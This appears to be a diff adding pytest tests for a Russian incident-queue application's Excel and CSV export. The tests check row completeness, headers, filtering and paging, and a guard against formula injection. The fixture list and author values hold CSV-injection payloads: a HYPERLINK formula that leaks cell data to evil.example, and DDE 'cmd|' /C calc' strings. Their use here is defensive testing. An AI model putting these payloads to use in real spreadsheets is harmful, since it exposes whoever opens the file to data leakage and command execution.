@@ -1,0 +1,178 @@
+"""Exports of the queue view to .xlsx and .csv: every row, Russian headers, no formula injection."""
+from __future__ import annotations
+
+import csv
+import io
+from datetime import datetime
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+
+from app.models.enums import Priority
+from app.services import export, workflow
+from app.services.errors import ValidationError
+from app.services.queue import QueueFilter, QueueSort
+from tests.helpers.world import MSK, World, build_world
+
+#: texts a social-network user could write to attack whoever opens the export in Excel
+HOSTILE = [
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Нажмите\")",
+    "+7 (900) 000-00-00 звоните",
+    "-1+1 и всё тут",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\tтабуляция в начале",
+    "\rвозврат каретки",
+    "#N/A",
+    "\uff1d1+1 полноширинное равно",
+    "  =1+1 с пробелами",
+]
+
+
+@pytest.fixture
+def world(db, monkeypatch: pytest.MonkeyPatch) -> World:  # noqa: ANN001
+    return build_world(monkeypatch)
+
+
+def register(w: World, n: int, text: str, *, author: str = "Житель", link: str | None = None,
+             priority: Priority = Priority.NORMAL) -> int:
+    ref = workflow.register_incident(
+        w.actor("kurator"), link=link or f"https://vk.com/wall-100_{n}", author=author, text=text,
+        detected_at=datetime(2026, 11, 23, 10, n % 60, tzinfo=MSK), priority=priority)
+    return ref.id
+
+
+def hostile_world(w: World) -> list[int]:
+    ids = [register(w, n, text, author=text if n % 2 else "=cmd|' /C calc'!A0") for n, text in enumerate(HOSTILE, 1)]
+    ids.append(register(w, 50, "Обычный текст\nна двух строках", link="https://t.me/korenovsk/50",
+                        priority=Priority.HIGH))
+    return ids
+
+
+def test_xlsx_export_has_every_row_and_no_formula(world: World, tmp_path: Path) -> None:
+    ids = hostile_world(world)
+    out = tmp_path / "очередь.xlsx"
+    count = export.export_queue(world.actor("kurator"), QueueFilter(preset="all"), QueueSort("number"), out)
+    assert count == len(ids)
+    wb = load_workbook(out)
+    ws = wb.active
+    assert ws.title == "Очередь" and ws.freeze_panes == "A2"
+    assert ws.auto_filter.ref == f"A1:L{len(ids) + 1}"
+    rows = list(ws.iter_rows())
+    assert [c.value for c in rows[0]] == list(export.QUEUE_HEADERS)
+    assert all(c.font.b for c in rows[0])
+    # the injection guard: not a single formula (nor an error value) anywhere in the workbook
+    assert not [c.coordinate for row in rows for c in row if c.data_type in ("f", "e")]
+    by_number = {row[0].value: row for row in rows[1:]}
+    assert sorted(by_number) == sorted(ids)
+    for n, text in enumerate(HOSTILE, 1):
+        row = by_number[ids[n - 1]]
+        text_cell, author_cell = row[5], row[4]
+        stored = text.strip()  # the workflow strips what it registers
+        assert text_cell.value == stored and text_cell.data_type == "s"
+        assert text_cell.quotePrefix == export.is_formula_like(stored), text  # stays text when edited
+        assert author_cell.data_type == "s"
+    last = by_number[ids[-1]]
+    assert last[1].value == datetime(2026, 11, 23, 10, 50) and last[1].number_format == export.DATETIME_FORMAT
+    assert last[2].value == "Telegram" and last[3].value == "https://t.me/korenovsk/50"
+    assert last[5].value == "Обычный текст\nна двух строках"
+    assert last[8].value == "Новый" and last[9].value == "Повышенной важности"
+    assert isinstance(last[10].value, datetime)
+    assert last[11].value.startswith("Направление исполнителю (п. 10)")
+
+
+def test_csv_export_is_for_russian_excel_and_guarded(world: World, tmp_path: Path) -> None:
+    ids = hostile_world(world)
+    out = tmp_path / "очередь.csv"
+    export.export_queue(world.actor("kurator"), QueueFilter(preset="all"), QueueSort("number"), out)
+    raw = out.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
+    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
+    assert table[0] == list(export.QUEUE_HEADERS)
+    assert len(table) == len(ids) + 1
+    texts = {int(r[0]): r[5] for r in table[1:]}
+    guarded = 0
+    for n, text in enumerate(HOSTILE, 1):
+        stored = text.strip()
+        assert texts[ids[n - 1]] == ("'" + stored if export.is_formula_like(stored) else stored)
+        guarded += texts[ids[n - 1]].startswith("'")
+    assert guarded == 6  # = + - @ ＝ and the one after the spaces: the apostrophe makes Excel show text
+    authors = {r[4] for r in table[1:]}
+    assert "'=cmd|' /C calc'!A0" in authors
+    first = next(r for r in table[1:] if int(r[0]) == ids[-1])
+    assert first[1] == "23.11.2026 10:50" and first[9] == "Повышенной важности"
+
+
+def test_export_follows_the_filter_and_pages_through_everything(world: World, tmp_path: Path,
+                                                                monkeypatch: pytest.MonkeyPatch) -> None:
+    vk = [register(world, n, f"Сообщение {n}") for n in range(1, 8)]
+    register(world, 30, "В Телеграме", link="https://t.me/korenovsk/30")
+    monkeypatch.setattr(export, "EXPORT_PAGE", 3)
+    seen: list[tuple[int, int]] = []
+    out = tmp_path / "vk.csv"
+    count = export.export_queue(world.actor("kurator"), QueueFilter(preset="all", networks=("vk",)),
+                                QueueSort("number"), out, progress=lambda done, total: seen.append((done, total)))
+    assert count == 7
+    table = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline=""), delimiter=";"))
+    assert [int(r[0]) for r in table[1:]] == vk
+    assert seen == [(3, 7), (6, 7), (7, 7)]
+
+
+def test_cancelled_export_leaves_no_file(world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    for n in range(1, 5):
+        register(world, n, f"Сообщение {n}")
+    monkeypatch.setattr(export, "EXPORT_PAGE", 2)
+    out = tmp_path / "очередь.xlsx"
+    assert export.export_queue(world.actor("kurator"), QueueFilter(), QueueSort(), out,
+                               progress=lambda done, total: False) == 0
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_an_executor_exports_only_their_units_incidents(world: World, tmp_path: Path) -> None:
+    first = register(world, 1, "Фонари")
+    register(world, 2, "Мусор")
+    k = world.actor("kurator")
+    workflow.route(k, first, 1, unit_ids=[world.units["zhkh"]], topic_id=world.topic_id)
+    out = tmp_path / "моё.xlsx"
+    assert export.export_queue(world.actor("zhkh"), QueueFilter(preset="unit_all"), QueueSort(), out) == 1
+    ws = load_workbook(out).active
+    assert ws.cell(2, 1).value == first and ws.cell(2, 8).value
+
+
+def test_bad_targets_are_refused_in_russian(world: World, tmp_path: Path) -> None:
+    with pytest.raises(ValidationError, match="только в .xlsx или .csv"):
+        export.export_queue(world.actor("kurator"), QueueFilter(), QueueSort(), tmp_path / "очередь.pdf")
+    with pytest.raises(ValidationError, match="не найдена"):
+        export.export_queue(world.actor("kurator"), QueueFilter(), QueueSort(), tmp_path / "нет" / "q.xlsx")
+
+
+@pytest.mark.parametrize("text,risky", [
+    ("=1+1", True), ("+1", True), ("-1", True), ("@x", True), ("\tx", True), ("\x01x", True),
+    ("\uff1d1", True), (" =1", True), ("Обычный текст", False), ("1-1", False), ("", False), ("a=b", False),
+])
+def test_formula_like_detection(text: str, risky: bool) -> None:
+    assert export.is_formula_like(text) is risky
+    assert export.csv_safe(text) == ("'" + text if risky else text)
+
+
+def test_write_table_xlsx_replaces_characters_excel_cannot_hold(tmp_path: Path) -> None:
+    out = tmp_path / "t.xlsx"
+    long_text = "я" * 40_000
+    assert export.write_table(out, ["Текст", "Число"], [["a\x00b\x07c", 5], [long_text, 1.5], [None, None]]) == 3
+    ws = load_workbook(out).active
+    assert ws.cell(2, 1).value == "a\ufffdb\ufffdc" and ws.cell(2, 2).value == 5
+    assert len(ws.cell(3, 1).value) == export.XLSX_CELL_LIMIT and ws.cell(3, 1).value.endswith("…")
+    assert ws.cell(4, 1).value is None
+
+
+def test_write_table_guards_values_starting_with_a_control_character(tmp_path: Path) -> None:
+    values = ["\tтабуляция", "\r=1+1", "=1+1"]
+    export.write_table(tmp_path / "t.xlsx", ["Текст"], [[v] for v in values])
+    ws = load_workbook(tmp_path / "t.xlsx").active
+    cells = [ws.cell(r, 1) for r in (2, 3, 4)]
+    assert [c.value for c in cells] == [v.replace("\r", "\n") for v in values]  # XML keeps no bare CR
+    assert all(c.quotePrefix and c.data_type == "s" for c in cells)
+    export.write_table(tmp_path / "t.csv", ["Текст"], [[v] for v in values])
+    table = list(csv.reader(io.StringIO((tmp_path / "t.csv").read_bytes().decode("utf-8-sig"), newline=""),
+                            delimiter=";"))
+    assert [r[0] for r in table[1:]] == ["'" + v for v in values]
